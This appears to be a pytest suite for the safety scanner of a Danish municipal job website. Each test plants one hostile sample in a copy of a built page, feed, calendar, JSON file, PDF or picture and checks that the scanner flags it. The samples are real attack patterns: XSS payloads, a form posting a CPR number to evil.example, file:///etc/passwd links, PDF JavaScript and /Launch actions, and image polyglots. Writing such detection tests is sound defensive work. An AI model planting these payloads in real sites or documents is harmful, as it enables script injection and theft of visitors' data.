"""The built site carries no active content, proved by the parser-based scanner in
safety_scan.py; and the scanner itself catches each kind of hostile output
(each test plants one in a copy of a clean file and expects a finding)."""
from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from safety_scan import Baseline, Finding, assert_clean, baseline, scan_site

TODAY = "2026-01-05"
POSTING = "job/paedagogisk-leder-stjernehuset/index.html"


@pytest.fixture(scope="module")
def clean(built_site):
    return built_site(TODAY)


@pytest.fixture(scope="module")
def clean_baseline(clean) -> Baseline:
    return baseline(clean.root)


def test_example_site_scans_clean(clean, clean_baseline):
    assert_clean(scan_site(clean.root, clean_baseline))


def test_the_scan_covers_every_kind_of_output(clean):
    """A scan that silently read nothing would also be clean."""
    suffixes = {p.suffix for p in clean.root.rglob("*") if p.is_file() and "assets" not in p.parts}
    assert {".html", ".xml", ".ics", ".json", ".pdf"} <= suffixes
    assert (clean.root / "job" / "feed.xml").is_file()


# --- helpers: a scratch site holding one copied file ---

def copy_one(clean, rel: str, dest: Path) -> Path:
    target = dest / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(clean.root / rel, target)
    return target


def whats(findings: list[Finding]) -> set[str]:
    return {f.what for f in findings}


def scan(site: Path, base: Baseline | None) -> list[Finding]:
    return scan_site(site, base, site_hosts={"127.0.0.1:8000"})


# --- HTML ---

HTML_ATTACKS = {
    "img onerror": ('<img src=x onerror=alert(1)>', "event handler"),
    "svg onload": ('<svg onload=alert(1)></svg>', "event handler"),
    "svg xlink:href": ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "dangerous URL scheme"),
    "math xlink:href": ('<math><maction xlink:href="javascript:alert(1)">x</maction></math>', "dangerous URL scheme"),
    "entity-split javascript:": ('<a href="jav&#x09;ascript:alert(1)">x</a>', "dangerous URL scheme"),
    "data: link": ('<a href=" data:text/html,<script>alert(1)</script>">x</a>', "dangerous URL scheme"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "forbidden element"),
    "object": ('<object data="x.swf"></object>', "forbidden element"),
    "embed": ('<embed src="x.swf">', "forbidden element"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "meta refresh"),
    "base": ('<base href="https://evil.example/">', "forbidden element"),
    "tracking pixel": ('<img src="https://tracker.example/p.gif">', "resource from another host"),
    "protocol-relative": ('<img src="//tracker.example/p.gif">', "resource from another host"),
    "srcset": ('<img src="a.png" srcset="a.png 1x, https://tracker.example/p.gif 2x">', "resource from another host"),
    "css url()": ('<div style="background:url(https://x/y)">x</div>', "resource from another host"),
    "css escaped javascript": (r'<div style="background:u\72l(javascript:alert(1))">x</div>', "dangerous URL scheme"),
    "style element @import": ('<style>@import "https://evil.example/a.css";</style>', "resource from another host"),
    "stylesheet": ('<link rel="stylesheet" href="https://evil.example/a.css">', "resource from another host"),
    "link rel=import": ('<link rel="import" href="/x.html">', "link rel=import"),
    "form elsewhere": ('<form action="https://evil.example/steal"><input name=cpr></form>', "form to another host"),
    "inline script": ('<script>alert(1)</script>', "script the clean build does not have"),
    "external script": ('<script src="https://evil.example/x.js"></script>', "script the clean build does not have"),
    "script of another page kind": ('<script>document.getElementById("jobsite-filter").hidden = false</script>',
                                    "script the clean build does not have"),
    "svg animate href": ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
                         "SVG animation rewriting a link"),
    "noscript mXSS": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "event handler"),
    "img in select (dropped by html5lib, kept by Chrome)": ('<select><img src=x onerror=alert(1)></select>',
                                                            "event handler"),
}


@pytest.mark.parametrize("name", HTML_ATTACKS)
def test_html_attack_is_found(name, clean, clean_baseline, tmp_path):
    snippet, what = HTML_ATTACKS[name]
    page = copy_one(clean, POSTING, tmp_path)
    html = page.read_text(encoding="utf-8")
    assert "</article>" in html
    page.write_text(html.replace("</article>", snippet + "</article>", 1), encoding="utf-8")
    findings = scan(tmp_path, clean_baseline)
    assert what in whats(findings), findings
    assert all(f.file == POSTING for f in findings)


def test_clean_page_copy_has_no_findings(clean, clean_baseline, tmp_path):
    copy_one(clean, POSTING, tmp_path)
    assert scan(tmp_path, clean_baseline) == []


def test_links_to_other_hosts_are_fine(clean, clean_baseline, tmp_path):
    page = copy_one(clean, POSTING, tmp_path)
    html = page.read_text(encoding="utf-8").replace(
        "</article>", '<a href="https://www.ballerup.dk/job">Søg</a></article>', 1)
    page.write_text(html, encoding="utf-8")
    assert scan(tmp_path, clean_baseline) == []


def test_allowed_hosts_admit_their_images(clean, clean_baseline, tmp_path):
    page = copy_one(clean, POSTING, tmp_path)
    html = page.read_text(encoding="utf-8").replace(
        "</article>", '<img src="https://cdn.example/a.png" alt=""></article>', 1)
    page.write_text(html, encoding="utf-8")
    assert scan(tmp_path, clean_baseline)
    assert scan_site(tmp_path, clean_baseline, allowed_hosts={"cdn.example"}) == []


def test_without_baseline_every_script_is_a_finding(clean, tmp_path):
    copy_one(clean, POSTING, tmp_path)
    assert whats(scan(tmp_path, None)) == {"script"}


# --- Atom feed ---

def test_feed_copy_is_clean(clean, clean_baseline, tmp_path):
    copy_one(clean, "job/feed.xml", tmp_path)
    assert scan(tmp_path, clean_baseline) == []


def test_escaped_html_in_feed_entry_is_scanned(clean, clean_baseline, tmp_path):
    feed = copy_one(clean, "job/feed.xml", tmp_path)
    xml = feed.read_text(encoding="utf-8")
    assert '<content type="html">' in xml
    feed.write_text(xml.replace('<content type="html">', '<content type="html">&lt;img src=x onerror=alert(1)&gt;', 1),
                    encoding="utf-8")
    findings = scan(tmp_path, clean_baseline)
    assert "event handler" in whats(findings), findings
    assert "entry tag:jobsite.dagtilbud" in findings[0].detail


def test_xhtml_feed_content_is_scanned(clean, clean_baseline, tmp_path):
    feed = copy_one(clean, "job/feed.xml", tmp_path)
    xml = feed.read_text(encoding="utf-8").replace(
        "</entry>", '<summary type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
                    '<a href="javascript:alert(1)">x</a></div></summary></entry>', 1)
    feed.write_text(xml, encoding="utf-8")
    assert "dangerous URL scheme" in whats(scan(tmp_path, clean_baseline))


def test_feed_with_doctype_and_entities_is_found(clean, clean_baseline, tmp_path):
    feed = copy_one(clean, "job/feed.xml", tmp_path)
    xml = feed.read_text(encoding="utf-8").replace(
        "<feed ", '<!DOCTYPE feed [<!ENTITY lol "lol">]>\n<feed ', 1)
    feed.write_text(xml, encoding="utf-8")
    assert "XML declares a DOCTYPE or entities" in whats(scan(tmp_path, clean_baseline))


# --- iCalendar ---

ICS = "job/paedagogisk-leder-stjernehuset/kalender.ics"


def test_calendar_copy_is_clean(clean, clean_baseline, tmp_path):
    copy_one(clean, ICS, tmp_path)
    assert scan(tmp_path, clean_baseline) == []


@pytest.mark.parametrize("old, new, what", [
    ("DESCRIPTION:", "DESCRIPTION:<script>alert(1)</script>", "active content in calendar text"),
    ("LOCATION:", 'LOCATION:<img src=x onerror="alert(1)">', "active content in calendar text"),
    ("URL:http://127.0.0.1:8000/", "URL:javascript:alert(1)//", "calendar link off the site"),
    ("URL:http://127.0.0.1:8000/", "URL:https://evil.example/", "calendar link off the site"),
    ("STATUS:CONFIRMED", "STATUS:CONFIRMED\r\nATTACH:file:///etc/passwd", "calendar link off the site"),
    ("STATUS:CONFIRMED", "STATUS:CONFIRMED\r\nthis is not a content line", "invalid calendar line"),
])
def test_calendar_attack_is_found(old, new, what, clean, clean_baseline, tmp_path):
    ics = copy_one(clean, ICS, tmp_path)
    text = ics.read_bytes().decode("utf-8")
    assert old in text
    ics.write_bytes(text.replace(old, new, 1).encode("utf-8"))
    assert what in whats(scan(tmp_path, clean_baseline))


def test_a_less_than_sign_and_a_later_word_with_on_are_text_in_a_calendar(clean, clean_baseline, tmp_path):
    """'<' before a space is no tag, so 'onsdag =' after it is no handler (check allows '< ' on purpose)."""
    ics = copy_one(clean, ICS, tmp_path)
    text = ics.read_bytes().decode("utf-8")
    ics.write_bytes(text.replace("DESCRIPTION:", "DESCRIPTION:Løn < 30.000 kr.\\, onsdag = fri. ", 1).encode("utf-8"))
    assert scan(tmp_path, clean_baseline) == []
    ics.write_bytes(text.replace("DESCRIPTION:", "DESCRIPTION:<b onmouseover=x>", 1).encode("utf-8"))
    assert "active content in calendar text" in whats(scan(tmp_path, clean_baseline))


# --- JSON ---

def test_json_copies_are_clean(clean, clean_baseline, tmp_path):
    copy_one(clean, "job/jobs.json", tmp_path)
    copy_one(clean, "pagefind/pagefind-entry.json", tmp_path)
    assert scan(tmp_path, clean_baseline) == []


def test_html_in_jobs_json_is_found(clean, clean_baseline, tmp_path):
    path = copy_one(clean, "job/jobs.json", tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    data["postings"][0]["title"] = "<img src=x onerror=alert(1)>"
    data["postings"][0]["url"] = "javascript:alert(1)"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert {"HTML in JSON string", "dangerous URL in JSON string"} <= whats(scan(tmp_path, clean_baseline))


def test_search_index_html_gets_the_html_rules(clean, clean_baseline, tmp_path):
    """Material renders the index's text as HTML: its <p> tags are fine, handlers are not. (The site's
    search is Pagefind now, whose results are drawn as text; the rule stays for a Material index.)"""
    path = tmp_path / "search" / "search_index.json"
    path.parent.mkdir(parents=True)
    data = {"docs": [{"location": "", "title": "Forside", "text": "<p>Job og viden</p>"}]}
    path.write_text(json.dumps(data), encoding="utf-8")
    assert scan(tmp_path, clean_baseline) == []
    data["docs"][0]["text"] += "<img src=x onerror=alert(1)>"
    path.write_text(json.dumps(data), encoding="utf-8")
    assert "event handler" in whats(scan(tmp_path, clean_baseline))


# --- PDF ---

PDF = "stillingsbeskrivelser/stillingsbeskrivelser-ballerup.pdf"


def test_pdf_copy_is_clean(clean, clean_baseline, tmp_path):
    copy_one(clean, PDF, tmp_path)
    assert scan(tmp_path, clean_baseline) == []


def hostile_pdf(clean, tmp_path: Path, plant) -> list[Finding]:
    writer = PdfWriter(clone_from=PdfReader(clean.root / PDF))
    plant(writer)
    out = tmp_path / "site" / PDF
    out.parent.mkdir(parents=True)
    with out.open("wb") as fh:
        writer.write(fh)
    return scan(tmp_path / "site", None)


def action(**entries) -> DictionaryObject:
    d = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    for key, value in entries.items():
        d[NameObject("/" + key)] = value
    return d


def add_annotation(writer: PdfWriter, subtype: str, **entries) -> None:
    annot = action(**entries)
    annot[NameObject("/Type")] = NameObject("/Annot")
    annot[NameObject("/Subtype")] = NameObject(subtype)
    annot[NameObject("/Rect")] = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(50), FloatObject(50)])
    page = writer.pages[0]
    page.annotations = ArrayObject([*(page.annotations or []), writer._add_object(annot)])


def test_pdf_rewritten_unchanged_is_clean(clean, tmp_path):
    assert hostile_pdf(clean, tmp_path, lambda w: None) == []


def test_pdf_embedded_file_is_found(clean, tmp_path):
    findings = hostile_pdf(clean, tmp_path, lambda w: w.add_attachment("faktura.exe", b"MZ"))
    assert {"PDF embedded files", "PDF embedded file stream"} <= whats(findings)


def test_pdf_javascript_is_found(clean, tmp_path):
    findings = hostile_pdf(clean, tmp_path, lambda w: w.add_open_action(JavaScript("app.alert(1)")))
    assert {"PDF JavaScript name tree", "PDF action /JavaScript"} <= whats(findings)


def test_pdf_open_action_javascript_is_found(clean, tmp_path):
    def plant(w: PdfWriter):
        w._root_object[NameObject("/OpenAction")] = w._add_object(
            action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)")))
    assert "PDF /OpenAction runs JavaScript" in whats(hostile_pdf(clean, tmp_path, plant))


@pytest.mark.parametrize("act, what", [
    (action(S=NameObject("/URI"), URI=TextStringObject("javascript:app.alert(1)")), "PDF link with a disallowed scheme"),
    (action(S=NameObject("/URI"), URI=TextStringObject("file:///C:/Windows/calc.exe")),
     "PDF link with a disallowed scheme"),
    (action(S=NameObject("/Launch"), F=TextStringObject("calc.exe")), "PDF action /Launch"),
    (action(S=NameObject("/GoToR"), F=TextStringObject("other.pdf")), "PDF action /GoToR"),
    (action(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example/")), "PDF action /SubmitForm"),
    (action(S=NameObject("/ImportData"), F=TextStringObject("data.fdf")), "PDF action /ImportData"),
], ids=["uri-javascript", "uri-file", "launch", "gotor", "submitform", "importdata"])
def test_pdf_link_actions_are_found(act, what, clean, tmp_path):
    assert what in whats(hostile_pdf(clean, tmp_path, lambda w: add_annotation(w, "/Link", A=act)))


def test_pdf_file_attachment_annotation_is_found(clean, tmp_path):
    findings = hostile_pdf(clean, tmp_path, lambda w: add_annotation(w, "/FileAttachment"))
    assert "PDF file attachment annotation" in whats(findings)


# --- the report ---

def test_assert_clean_lists_findings_readably():
    findings = [Finding("a/index.html", "event handler", "onerror= on <img>"),
                Finding("b.pdf", "PDF embedded files", "/EmbeddedFiles in obj 7 0")]
    with pytest.raises(AssertionError) as err:
        assert_clean(findings)
    assert str(err.value) == ("2 active-content finding(s):\n"
                              "  - a/index.html: event handler: onerror= on <img>\n"
                              "  - b.pdf: PDF embedded files: /EmbeddedFiles in obj 7 0")
    assert_clean([])


# --- pictures and other files under assets/ and the media folders -------------------------------------

def _picture(fmt: str = "PNG", exif: bool = False) -> bytes:
    import io
    from PIL import Image
    out = io.BytesIO()
    image = Image.new("RGB", (4, 4), (10, 120, 200))
    if exif:
        tags = Image.Exif()
        tags[0x010E] = "Helle Kristensens barn"
        image.save(out, fmt, exif=tags.tobytes())
    else:
        image.save(out, fmt)
    return out.getvalue()


def _site_with(clean, tmp_path, rel: str, data: bytes) -> Path:
    """`rel` written into a site that holds the example site's sitemap (which names its host) and its
    uploaded pictures. The scan reads each file on its own (by its path and bytes), so what it finds in
    `rel` is what it finds in a copy of the whole site; the rest of the site is scanned clean once, in
    test_example_site_scans_clean, not once more for each picture."""
    site = tmp_path / "site"
    site.mkdir()
    shutil.copy2(clean.root / "sitemap.xml", site / "sitemap.xml")
    if (clean.root / "assets" / "billeder").is_dir():
        shutil.copytree(clean.root / "assets" / "billeder", site / "assets" / "billeder")
    (site / rel).parent.mkdir(parents=True, exist_ok=True)
    (site / rel).write_bytes(data)
    return site


@pytest.mark.parametrize("rel, data, what", [
    ("assets/billeder/foto.jpg", _picture("JPEG") + b"<html><script>x()</script></html>", "polyglot"),
    ("assets/billeder/foto.jpg", _picture("JPEG", exif=True), "metadata left in an uploaded picture"),
    ("assets/billeder/foto.png", _picture("JPEG"), "another format"),
    ("assets/billeder/foto.png", b"<svg onload=x()>", "does not decode"),
    ("assets/billeder/side.exe", b"MZ\x90\x00", "unexpected file type"),
    ("foldere/foto.webp", b"RIFF\x00\x00", "does not decode"),
    ("assets/ukendt.bin", b"\x00\x01", "unexpected file type"),
])
def test_a_picture_or_asset_that_is_not_what_it_claims_is_found(clean, clean_baseline, tmp_path, rel, data, what):
    site = _site_with(clean, tmp_path, rel, data)
    findings = [f for f in scan_site(site, clean_baseline) if f.file == rel]
    assert any(what in f.what for f in findings), findings


def test_a_clean_uploaded_picture_is_no_finding(clean, clean_baseline, tmp_path):
    site = _site_with(clean, tmp_path, "assets/billeder/foto.png", _picture("PNG"))
    assert [f for f in scan_site(site, clean_baseline) if f.file.startswith("assets/billeder/")] == []
